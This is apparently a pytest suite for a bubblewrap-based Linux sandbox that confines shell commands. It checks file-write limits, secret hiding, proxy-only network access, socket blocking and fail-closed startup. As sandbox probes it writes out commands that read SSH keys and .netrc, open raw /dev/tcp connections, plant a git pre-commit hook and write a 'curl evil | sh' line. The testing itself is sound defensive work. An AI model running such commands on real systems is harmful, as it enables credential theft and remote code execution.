"""The Linux sandbox for real: bubblewrap runs each command; the proxy serves a local test server."""

from __future__ import annotations

import http.server
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from yoke.sandbox import SandboxSettings, SandboxUnavailable, wrap_command

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is Linux only")

# The interpreter itself (stdlib only in these probes): a virtualenv under the host's /tmp is out of sight in
# the sandbox, whose /tmp is private.
PYTHON = os.path.realpath(sys.executable) + " -I -S"
if sys.platform.startswith("linux") and shutil.which("bwrap") is None and not os.environ.get("CI"):
    pytestmark = pytest.mark.skip(reason="bubblewrap is not installed (apt-get install bubblewrap)")


class Box:
    def __init__(self, root: Path) -> None:
        self.home = root / "home"
        self.project = root / "proj"
        self.outside = root / "outside"
        for folder in (self.home / ".ssh", self.project / ".git" / "hooks", self.outside):
            folder.mkdir(parents=True)
        (self.home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
        (self.home / ".netrc").write_text("machine x password y\n")
        (self.project / "data.txt").write_text("project data\n")

    def run(
        self, script: str, settings: SandboxSettings | None = None, **kw
    ) -> subprocess.CompletedProcess[str]:  # type: ignore[no-untyped-def]
        settings = settings or SandboxSettings(enabled=True, base_dir=self.project)
        argv = wrap_command(
            ["bash", "-c", script], settings, self.project, [self.project], home=self.home, **kw
        )
        env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
        env["HOME"] = str(self.home)
        return subprocess.run(argv, capture_output=True, text=True, timeout=30, env=env, cwd=self.project)


@pytest.fixture
def box(tmp_path: Path) -> Box:
    return Box(tmp_path)


@pytest.fixture
def web() -> Iterator[int]:
    """A local HTTP server on the host (outside the sandbox's network namespace)."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            body = f"hello {self.path}\n".encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


def test_writes_only_inside_the_project(box: Box) -> None:
    visible = Path(tempfile.mkdtemp(prefix="yoke-sandbox-test-", dir="/var/tmp"))  # outside the private /tmp
    try:
        (visible / "existing.txt").write_text("host\n")
        result = box.run(
            f"echo ok > inside.txt && echo $? ; echo x > {visible}/out.txt; echo x >> {visible}/existing.txt; "
            "echo x > /etc/yoke-test; echo tmp > /tmp/t && cat /tmp/t"
        )
        assert not (visible / "out.txt").exists()
        assert (visible / "existing.txt").read_text() == "host\n"
    finally:
        shutil.rmtree(visible)
    assert (box.project / "inside.txt").read_text() == "ok\n"
    assert not Path("/etc/yoke-test").exists()
    assert result.stderr.count("Read-only file system") == 3
    assert result.stdout.splitlines() == ["0", "tmp"]
    assert not Path("/tmp/t").exists()  # the sandbox's /tmp is private


def test_no_capabilities_so_no_remounting(box: Box) -> None:
    result = box.run(
        "grep CapEff /proc/self/status; mount -o remount,rw / 2>/dev/null; touch /etc/yoke-remount"
    )
    assert result.stdout.split() == ["CapEff:", "0000000000000000"]
    assert not Path("/etc/yoke-remount").exists()


def test_relay_cannot_be_traced(box: Box, web: int) -> None:
    settings = SandboxSettings(enabled=True, allowed_domains=("localhost",), base_dir=box.project)
    script = (
        "pat=bri; pat=${pat}dge.py; found=0; for p in /proc/[0-9]*; do "
        'if grep -q "$pat" $p/cmdline 2>/dev/null && ! grep -q bwrap $p/comm; then '
        "found=1; cat $p/environ >/dev/null 2>&1 && echo readable; fi; "
        "done; echo found=$found"
    )
    result = box.run(script, settings)
    assert "found=1" in result.stdout  # the relay is there…
    assert "readable" not in result.stdout  # …but its memory and environment are off limits


def test_protected_files_inside_the_project_stay_read_only(box: Box) -> None:
    result = box.run("echo evil > .git/hooks/pre-commit; echo ok > src.txt")
    assert "Read-only file system" in result.stderr
    assert not (box.project / ".git" / "hooks" / "pre-commit").exists()
    assert (box.project / "src.txt").exists()


def test_secrets_cannot_be_read(box: Box) -> None:
    result = box.run("cat ~/.ssh/id_rsa; ls ~/.ssh | wc -l; cat ~/.netrc | wc -c; cat data.txt")
    assert "PRIVATE KEY" not in result.stdout
    assert "password" not in result.stdout
    assert result.stdout.split() == ["0", "0", "project", "data"]


def test_deny_read_setting_hides_a_path(box: Box) -> None:
    (box.outside / "secret.txt").write_text("classified\n")
    settings = SandboxSettings(enabled=True, deny_read=(str(box.outside),), base_dir=box.project)
    result = box.run(f"cat {box.outside}/secret.txt", settings)
    assert "classified" not in result.stdout and result.returncode != 0


def test_no_network_without_allowed_domains(box: Box, web: int) -> None:
    result = box.run(f"exec 3<>/dev/tcp/127.0.0.1/{web} && echo connected")
    assert "connected" not in result.stdout
    assert result.returncode != 0


def test_allowed_domain_goes_through_the_proxy(box: Box, web: int) -> None:
    settings = SandboxSettings(enabled=True, allowed_domains=("localhost",), base_dir=box.project)
    fetch = f'{PYTHON} -c "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode().strip())"'
    result = box.run(
        f"{fetch} http://localhost:{web}/ok; {fetch} http://127.0.0.1:{web}/no; echo rc=$?", settings
    )
    assert "hello /ok" in result.stdout
    assert "hello /no" not in result.stdout
    assert "HTTP Error 403" in result.stderr
    direct = box.run(f"exec 3<>/dev/tcp/127.0.0.1/{web} && echo connected", settings)
    assert "connected" not in direct.stdout  # only the proxy is reachable


def test_unix_sockets_are_blocked_unless_allowed(box: Box) -> None:
    probe = f"{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX); print(\"made\")'"
    assert "made" not in box.run(probe).stdout
    open_settings = SandboxSettings(enabled=True, allow_all_unix_sockets=True, base_dir=box.project)
    assert "made" in box.run(probe, open_settings).stdout
    pair = f"{PYTHON} -c 'import socket; socket.socketpair(); print(\"pair\")'"
    assert "pair" in box.run(pair).stdout  # socketpair (asyncio's self-pipe) still works


def test_fresh_pid_namespace_and_exit_status(box: Box) -> None:
    result = box.run("ls /proc | grep -c '^[0-9]'; exit 7")
    assert int(result.stdout.strip()) < 10
    assert result.returncode == 7


def test_extra_writable_and_readable_paths(box: Box) -> None:
    target = box.outside / "cwd-report"
    snapshot = box.home / "snapshot.sh"
    snapshot.write_text("echo from-snapshot\n")
    result = box.run(
        f"pwd > {target}; source {snapshot}; echo x >> {snapshot}",
        writable=[box.outside],
        readable=[snapshot],
    )
    assert target.read_text().strip() == str(box.project)
    assert "from-snapshot" in result.stdout
    assert snapshot.read_text() == "echo from-snapshot\n"


def test_killing_the_group_ends_everything_inside(box: Box) -> None:
    import signal
    import time

    settings = SandboxSettings(enabled=True, allowed_domains=("localhost",), base_dir=box.project)
    marker = f"yoke-sandbox-kill-test-{os.getpid()}"
    argv = wrap_command(["bash", "-c", f"exec -a {marker} sleep 300"], settings, box.project, [box.project])
    proc = subprocess.Popen(argv, start_new_session=True)
    try:
        deadline = time.monotonic() + 10
        while marker not in _ps() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert marker in _ps()
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        proc.wait(10)
    deadline = time.monotonic() + 5
    while marker in _ps() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert marker not in _ps()


def _ps() -> str:
    return subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout


def test_fail_closed_without_bwrap(box: Box, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    empty = tmp_path / "empty-bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    with pytest.raises(SandboxUnavailable) as info:
        wrap_command(["true"], SandboxSettings(enabled=True), box.project, [box.project])
    message = str(info.value)
    assert "bubblewrap" in message and "\n" not in message
    with pytest.raises(SandboxUnavailable):
        wrap_command(
            ["true"], SandboxSettings(enabled=True, bwrap_path="/nonexistent/bwrap"), box.project, []
        )


def test_fail_closed_when_bwrap_cannot_start(box: Box, tmp_path: Path) -> None:
    broken = tmp_path / "bwrap"
    broken.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    broken.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match="cannot create namespaces here"):
        wrap_command(["true"], SandboxSettings(enabled=True, bwrap_path=str(broken)), box.project, [])


def test_host_socket_server_unreachable(box: Box) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    try:
        result = box.run(f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected")
    finally:
        listener.close()
    assert "connected" not in result.stdout


def test_protected_names_are_read_only_whether_or_not_they_exist(box: Box) -> None:
    (box.project / ".bashrc").write_text("# existing rc\n")
    script = (
        "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir -p .claude && echo x > .claude/settings.json;"
        " mkdir -p .vscode/x; echo more >> .bashrc; echo hook > .git/hooks/pre-commit; echo ok > fine.txt"
    )
    result = box.run(script)
    assert (box.project / "fine.txt").read_text() == "ok\n"  # ordinary writes still work
    assert (box.project / ".bashrc").read_text() == "# existing rc\n"
    for name in (".envrc", ".mcp.json", ".claude", ".vscode", ".git/hooks/pre-commit", ".idea", ".husky"):
        assert not os.path.lexists(box.project / name), (name, result.stderr)
